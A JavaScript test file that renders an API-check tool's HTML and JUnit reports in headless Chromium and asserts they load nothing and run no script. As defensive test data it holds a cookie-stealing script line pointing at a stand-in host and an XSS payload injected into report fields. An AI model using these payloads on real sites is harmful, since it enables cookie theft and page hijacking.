// The HTML report in a real headless Chromium: the DOM a reader sees, nothing fetched, no script, and a screenshot
// of each fixture (in the test's temp dir; set MP_TEST_ARTIFACTS=<dir> to keep them for a human look). JUnit XML is parsed by the browser's DOMParser too.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { renderHtml } from '../dist/report/html.js';
import { renderJunit } from '../dist/report/junit.js';

const here = dirname(fileURLToPath(import.meta.url));
const executablePath = process.env.CHROMIUM_PATH || '/usr/bin/chromium';
// Screenshots are taken either way; they stay only where MP_TEST_ARTIFACTS asks (a test writes in its temp dir).
let artifacts;
const fixtureDir = join(here, 'fixtures', 'reports');
const fixtures = readdirSync(fixtureDir)
  .filter((f) => f.endsWith('.json'))
  .sort()
  .map((f) => ({ name: f.replace(/\.json$/, ''), report: JSON.parse(readFileSync(join(fixtureDir, f), 'utf8')) }));

const PHASES = { dns: 'dns', connect: 'connect', tls: 'tls', firstByte: 'first-byte', download: 'download' };
const TITLES = { pass: 'Pass', 'client-error': 'Client error', 'server-error': 'Server error', 'network-error': 'Network error' };

if (!existsSync(executablePath)) {
  // A missing browser fails the run, saying what to install: a skipped check must not read as a passed one.
  test('Chromium is installed', () => {
    assert.unreachable(`Chromium not found at ${executablePath}; install it (apt-get install chromium) or set CHROMIUM_PATH`);
  });
  test.run();
} else {
  let browser;
  let work;

  test.before(async () => {
    const { chromium } = await import('playwright-core');
    browser = await chromium.launch({
      executablePath,
      args: [
        '--headless',
        '--no-sandbox',
        '--disable-gpu',
        '--disable-quic',
        '--no-first-run',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
      ],
    });
    work = mkdtempSync(join(tmpdir(), 'mvp-html-'));
    artifacts = process.env.MP_TEST_ARTIFACTS || join(work, 'screenshots');
    mkdirSync(artifacts, { recursive: true });
    const context = await browser.newContext({ viewport: { width: 1200, height: 900 } });
    page = await context.newPage();
    page.on('request', (r) => current.requests.push(r.url()));
    page.on('dialog', (d) => {
      current.dialogs.push(d.message());
      d.dismiss().catch(() => undefined);
    });
  });

  test.after(async () => {
    await browser?.close();
    if (work) rmSync(work, { recursive: true, force: true });
  });

  let page;
  let current = { requests: [], dialogs: [] };

  /**
   * Opens the HTML from a file, the way a reader opens an attachment, and records every request the page makes.
   * One page is reused for every document: a new page costs more than everything else in this file.
   */
  async function open(name, html) {
    const file = join(work, `${name}.html`);
    writeFileSync(file, html);
    current = { requests: [], dialogs: [] };
    const url = pathToFileURL(file).href;
    await page.goto(url, { waitUntil: 'load' });
    return { page, url, requests: current.requests, dialogs: current.dialogs };
  }

  for (const { name, report } of fixtures) {
    test(`HTML in Chromium: ${name}`, async () => {
      const { url, requests, dialogs } = await open(name, renderHtml(report));
      {
        const dom = await page.evaluate(() => {
          const banner = document.querySelector('[data-verdict]');
          const rows = [...document.querySelectorAll('tr[data-check]')].map((tr) => ({
            id: tr.getAttribute('data-check'),
            status: tr.getAttribute('data-status'),
            text: tr.textContent,
          }));
          const segments = [...document.querySelectorAll('.waterfall [data-phase]')].map((el) => ({
            phase: el.getAttribute('data-phase'),
            width: el.getBoundingClientRect().width,
          }));
          return {
            verdict: banner?.getAttribute('data-verdict'),
            bannerText: banner?.textContent ?? '',
            bannerClass: banner?.className ?? '',
            rows,
            segments,
            scripts: document.querySelectorAll('script').length,
            images: document.querySelectorAll('img, link, iframe, object, embed').length,
            curl: document.querySelector('pre.curl')?.textContent ?? '',
            bodyText: document.body.textContent,
            title: document.title,
          };
        });

        assert.is(dom.verdict, report.verdict);
        assert.ok(dom.bannerClass.includes(`v-${report.verdict}`));
        assert.ok(dom.bannerText.includes(TITLES[report.verdict]), dom.bannerText);
        assert.ok(dom.bannerText.includes(report.summary), 'summary in the banner');
        assert.ok(dom.title.includes(TITLES[report.verdict]));

        assert.is(dom.rows.length, report.checks.length);
        report.checks.forEach((c, i) => {
          assert.is(dom.rows[i].id, c.id);
          assert.is(dom.rows[i].status, c.status);
          assert.ok(dom.rows[i].text.includes(c.message), `${c.id}: message shown`);
        });

        const timings = report.response?.timings ?? report.timings;
        const known = Object.entries(PHASES).filter(([k]) => timings[k] !== null);
        assert.ok(known.length > 0);
        for (const [key, phase] of known) {
          const seg = dom.segments.find((s) => s.phase === phase);
          assert.ok(seg, `segment for ${phase}`);
          assert.ok(seg.width > 0, `${phase} has a visible width`);
        }
        for (const [key, phase] of Object.entries(PHASES)) {
          if (timings[key] === null) assert.not.ok(dom.segments.some((s) => s.phase === phase), `no segment for unmeasured ${phase}`);
        }
        // segments are sized by their share of the time: the longest phase has the widest segment
        const longest = known.reduce((a, b) => (timings[b[0]] > timings[a[0]] ? b : a))[1];
        const widest = dom.segments.filter((s) => Object.values(PHASES).includes(s.phase)).reduce((a, b) => (b.width > a.width ? b : a)).phase;
        assert.is(widest, longest);
        if (!report.response) assert.ok(dom.segments.some((s) => s.phase === 'no-response' && s.width > 100), 'the wait is shown');

        assert.is(dom.scripts, 0, 'no <script> element');
        assert.is(dom.images, 0, 'no element that loads anything');
        assert.ok(dom.curl.includes('$MASHVISOR_API_KEY'));
        assert.ok(dom.bodyText.includes(report.key.fingerprint));
        if (report.response) assert.ok(dom.bodyText.includes(`${report.response.status} ${report.response.statusText}`));
        else assert.ok(dom.bodyText.includes(report.error.code));

        assert.equal(requests, [url], `only the page itself is requested, got ${requests.join(', ')}`);
        assert.equal(dialogs, []);
        await page.screenshot({ path: join(artifacts, `${name}.png`), fullPage: true });
      }
    });
  }

  test('HTML in Chromium: the 503 page body is text, not markup', async () => {
    const report = fixtures.find((f) => f.name === 'server-error-503-maintenance').report;
    const { requests, url } = await open('503-text', renderHtml(report));
    {
      const shown = await page.evaluate(() => [...document.querySelectorAll('#response pre')].map((p) => p.textContent).join('\n'));
      assert.ok(shown.includes("<script>document.location='https://evil.example/steal?c='+document.cookie</script>"));
      assert.ok(shown.includes('<img src="https://cdn.example.com/logo.png" alt="logo">'));
      assert.equal(requests, [url]);
    }
  });

  test('HTML in Chromium: hostile values everywhere stay inert', async () => {
    const report = JSON.parse(JSON.stringify(fixtures.find((f) => f.name === 'client-error-401').report));
    const payload = `"><script>alert(1)</script><img src=x onerror=alert(2)><style>body{display:none}</style>`;
    report.summary = payload;
    report.request.operationId = payload;
    report.request.url = `https://api.mashvisor.com/${payload}`;
    report.request.headers['x-evil'] = payload;
    report.request.query = { state: payload };
    report.checks[0].message = payload;
    report.checks[0].id = payload;
    report.response.bodyText = `</pre>${payload}`;
    report.response.body = null;
    report.response.headers['x-evil'] = payload;
    report.environment.timezone = payload;
    const { requests, url, dialogs } = await open('hostile', renderHtml(report));
    {
      const dom = await page.evaluate(() => ({
        scripts: document.querySelectorAll('script').length,
        loaders: document.querySelectorAll('img, link, iframe, object, embed').length,
        styles: document.querySelectorAll('style').length,
        visible: getComputedStyle(document.body).display,
        rows: document.querySelectorAll('tr[data-check]').length,
      }));
      assert.equal(dom, { scripts: 0, loaders: 0, styles: 1, visible: 'block', rows: report.checks.length });
      assert.equal(requests, [url]);
      assert.equal(dialogs, []);
    }
  });

  test('JUnit XML parses in the browser for every fixture', async () => {
    {
      const hostile = JSON.parse(JSON.stringify(fixtures[0].report));
      hostile.checks[0].message = 'a < b && "c" ]]> \u0001 <![CDATA[';
      hostile.checks[0].status = 'fail';
      const cases = [...fixtures, { name: 'hostile', report: hostile }];
      for (const { name, report } of cases) {
        const xml = renderJunit(report);
        const parsed = await page.evaluate((text) => {
          const doc = new DOMParser().parseFromString(text, 'application/xml');
          const suite = doc.querySelector('testsuite');
          return {
            errors: doc.getElementsByTagName('parsererror').length,
            root: doc.documentElement.nodeName,
            tests: suite?.getAttribute('tests'),
            failures: suite?.getAttribute('failures'),
            skipped: suite?.getAttribute('skipped'),
            cases: [...doc.querySelectorAll('testcase')].map((t) => t.getAttribute('name')),
            failureMessages: [...doc.querySelectorAll('failure')].map((f) => f.getAttribute('message')),
          };
        }, xml);
        assert.is(parsed.errors, 0, `${name}: parser error`);
        assert.is(parsed.root, 'testsuites');
        assert.is(parsed.tests, String(report.checks.length));
        assert.is(parsed.failures, String(report.checks.filter((c) => c.status === 'fail').length));
        assert.is(parsed.skipped, String(report.checks.filter((c) => c.status === 'skip').length));
        assert.equal(parsed.cases, report.checks.map((c) => c.id));
        if (name === 'hostile') assert.ok(parsed.failureMessages.includes('a < b && "c" ]]> \\x01 <![CDATA['), parsed.failureMessages.join('|'));
      }
      // the check above can fail: broken XML is reported by the same parser
      const broken = await page.evaluate(
        () => new DOMParser().parseFromString('<a><b></a>', 'application/xml').getElementsByTagName('parsererror').length,
      );
      assert.ok(broken > 0);
    }
  });

  // The issue's own check: a real run against the simulator's maintenance scenario, every file opened the way a
  // reader would, in the browser.
  test('a maintenance check with --bundle --junit: HTML and JUnit from a real run hold up in Chromium', async () => {
    const { startSandbox, SANDBOX_KEY } = await import('../dist/sandbox/server.js');
    const { runCli } = await import('./helpers.js');
    const sandbox = await startSandbox({ port: 0 });
    const dir = join(work, 'bundle');
    try {
      const junit = join(dir, 'checks.junit.xml');
      const r = await runCli(['check', 'listCityProperties', '-p', 'state=TX', '-p', 'city=Austin', '--base-url', sandbox.directBaseUrl,
        '--reports-dir', dir, '-H', 'x-sandbox-scenario: maintenance', '--bundle', '--junit', junit], { env: { MASHVISOR_API_KEY: SANDBOX_KEY } });
      assert.is(r.code, 3, r.stderr);
      const html = readdirSync(dir).find((f) => f.endsWith('.html'));
      current = { requests: [], dialogs: [] };
      await page.goto(pathToFileURL(join(dir, html)).href, { waitUntil: 'load' });
      const dom = await page.evaluate(() => ({
        verdict: document.querySelector('[data-verdict]')?.getAttribute('data-verdict'),
        rows: [...document.querySelectorAll('tr[data-check]')].map((tr) => `${tr.getAttribute('data-check')}:${tr.getAttribute('data-status')}`),
        text: document.body.textContent,
      }));
      assert.is(dom.verdict, 'server-error');
      // A maintenance page came before the key was looked at: the key row says "not checked".
      assert.equal(dom.rows, ['params:pass', 'auth:skip', 'rate-limit:skip', 'response:fail']);
      assert.match(dom.text, /maintenance/);
      assert.not.ok(dom.text.includes(SANDBOX_KEY));
      assert.is(current.requests.length, 1, 'the page fetched nothing but itself');
      await page.screenshot({ path: join(artifacts, 'live-maintenance-bundle.png'), fullPage: true });
      const xml = readFileSync(junit, 'utf8');
      const parsed = await page.evaluate((text) => {
        const doc = new DOMParser().parseFromString(text, 'application/xml');
        return { errors: doc.getElementsByTagName('parsererror').length, cases: doc.querySelectorAll('testcase').length, failures: doc.querySelectorAll('failure').length };
      }, xml);
      assert.equal(parsed, { errors: 0, cases: 4, failures: 1 });
    } finally {
      await sandbox.close();
    }
  });

  test.run();
}
